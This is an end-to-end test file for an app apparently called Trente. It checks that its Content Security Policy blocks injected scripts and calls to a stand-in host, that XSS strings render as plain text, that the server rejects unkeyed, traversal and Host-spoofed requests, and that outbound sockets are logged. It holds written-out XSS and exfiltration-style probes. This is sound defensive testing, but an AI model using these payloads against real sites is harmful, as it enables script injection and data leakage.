import { expect, test } from './running-trente'

/** What a text that became code would try. Each must leave no trace: `broken` stays false, the page stays where it is. */
const probes: Readonly<Record<string, string>> = {
  'a script in the page': `const s = document.createElement('script'); s.append('window.broken = true'); document.body.append(s)`,
  'a script from elsewhere': `const s = document.createElement('script'); s.src = 'https://elsewhere.example/a.js'; document.body.append(s)`,
  'markup that runs': `document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="window.broken = true">')`,
  'text made code': `window.broken = eval('true')`,
  'a function made of text': `window.broken = new Function('return true')()`,
  'a timer made of text': `setTimeout('window.broken = true', 0)`,
  'a handler in an attribute': `const b = document.createElement('button'); b.setAttribute('onclick', 'window.broken = true'); document.body.append(b); b.click()`,
  'a picture from elsewhere': `const i = new Image(); i.onload = () => (window.broken = true); i.src = 'https://elsewhere.example/a.png'; document.body.append(i)`,
  'a style sheet from elsewhere': `const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = 'https://elsewhere.example/a.css'; document.head.append(l)`,
  'a request elsewhere': `fetch('https://elsewhere.example/').then(() => (window.broken = true), () => undefined)`,
  'a beacon elsewhere': `navigator.sendBeacon('https://elsewhere.example/', 'x')`,
  'a socket elsewhere': `new WebSocket('wss://elsewhere.example/')`,
  'a frame': `const f = document.createElement('iframe'); f.src = 'https://elsewhere.example/'; document.body.append(f)`,
  'a frame of text': `const f = document.createElement('iframe'); f.srcdoc = '<script>parent.broken = true</script>'; document.body.append(f)`,
  'an object': `const o = document.createElement('object'); o.data = 'https://elsewhere.example/a.swf'; document.body.append(o)`,
  'a form sent elsewhere': `const f = document.createElement('form'); f.action = 'https://elsewhere.example/'; f.method = 'post'; document.body.append(f); f.submit()`,
  'a new base for addresses': `const b = document.createElement('base'); b.href = 'https://elsewhere.example/'; document.head.append(b); if (document.baseURI.includes('elsewhere')) window.broken = true`,
  'a worker of text': `const w = new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))); w.onmessage = () => (window.broken = true)`,
}

test('the page of a client file runs nothing but Trente and speaks to nobody', async ({ app, quiet }) => {
  quiet.expect(/Content Security Policy|Trusted|requires '|Refused|violates/i)
  await app.arrive()
  await app.home.openExample()
  const address = app.page.url()
  for (const [what, code] of Object.entries(probes)) {
    // From a timer, as the page itself would: what the test driver evaluates at once is exempt from the policy.
    const end = await app.page.evaluate<string>(
      `new Promise((told) => {
        window.broken = false
        document.addEventListener('securitypolicyviolation', () => told('stopped'), { once: true })
        setTimeout(() => { try { ${code} } catch { told('stopped') } })
        setTimeout(() => told('went unnoticed'), 1500)
      })`,
    )
    expect.soft(end, what).toBe('stopped')
    expect.soft(await app.page.evaluate<boolean>('window.broken'), what).toBe(false)
  }
  expect(app.page.url()).toBe(address)
  expect(await app.page.evaluate<string>(`document.querySelector('h1').textContent`)).toBe(
    app.texts.registers.activities.many,
  )
})

test('words that look like code are shown as words', async ({ app }) => {
  const hostile = '<img src=x onerror=alert(1)>{{constructor}}<script>alert(2)</script>'
  app.page.on('dialog', (dialog) => {
    throw new Error(`a dialog opened: ${dialog.message()}`)
  })
  await app.arrive()
  await app.home.createFile(hostile)
  await app.list.addActivity(hostile)
  await app.activity.addPurpose(hostile, 'consent')
  await expect(app.activity.rows('purposes')).toContainText(hostile)
  await app.goTo('activities')
  await expect(app.list.line(hostile)).toBeVisible()
  await app.goTo('checks')
  await expect(app.main).toContainText(hostile)
  await app.goTo('printing')
  await expect(app.documents.preview).toContainText(hostile)
  await app.press('Control+k')
  await expect(app.dialog).toContainText(hostile)
  expect(await app.page.locator('img[src=x], script:not([src])').count()).toBe(0)
})

test('an address without its key is answered by nobody', async ({ trente, request }) => {
  const url = new URL(trente.url)
  expect((await request.get(url.origin)).status()).toBe(403)
  expect((await request.get(`${url.origin}/?key=guess`)).status()).toBe(403)
  expect((await request.get(`${url.origin}/..%2f..%2fpackage.json`)).status()).toBeGreaterThanOrEqual(400)
  expect((await request.post(`${url.origin}/ask/app.start`, { data: null })).status()).toBe(403)
  expect((await request.get(url.href, { headers: { host: 'localhost' } })).status()).toBe(421)
})

test('nothing of a client stays in the browser', async ({ app, context }) => {
  await app.arrive()
  await app.home.createFile('Mairie de Valmont')
  await app.list.addActivity('Secret de l’instruction')
  await app.saved()
  const kept = await app.page.evaluate<unknown>(
    `Promise.all([indexedDB.databases(), caches.keys(), navigator.serviceWorker.getRegistrations()]).then((lists) => [
      localStorage.length, document.cookie, ...lists.map((list) => list.length)
    ])`,
  )
  expect(kept).toEqual([0, '', 0, 0, 0])
  // For a reload, this window alone notes a handle, which names nothing and opens nothing elsewhere.
  const noted = () => app.page.evaluate<[string, string][]>('Object.entries(sessionStorage)')
  expect(await noted()).toEqual([['open-file', expect.stringMatching(/^[\da-f-]{36}$/)]])
  expect(await context.cookies()).toEqual([])
  await app.rail.getByRole('link', { name: app.nameOf('home') }).click()
  await app.button(app.texts.shell.frame.closeFile).click()
  await expect.poll(noted).toEqual([])
})

test('what the process behind the page says to other machines is noted in every test: control', async ({ trente }) => {
  expect(trente.saidElsewhere).toEqual([])
  const leak = `const net = require('node:net'); const { Worker } = require('node:worker_threads')
    net.connect(9, '192.0.2.1').on('error', () => undefined).destroy()
    net.connect({ port: 9, host: '127.0.0.1' }).on('error', () => undefined)
    fetch('http://elsewhere.invalid/').catch(() => undefined)
    const udp = require('node:dgram').createSocket('udp4')
    udp.send('x', 9, '192.0.2.2', () => udp.close())
    new Worker("require('node:net').connect(9, '192.0.2.3').on('error', () => undefined).destroy()", { eval: true })`
  await trente.alongside(leak)
  const noted = trente.saidElsewhere.map((line) => line.replace(/^(connect|lookup) elsewhere/, 'asked elsewhere'))
  expect([...new Set(noted)].sort()).toEqual([
    'asked elsewhere.invalid',
    'connect 192.0.2.1',
    'connect 192.0.2.3',
    'lookup 192.0.2.2',
    'send 192.0.2.2',
  ])
  trente.forgetSaid()
})
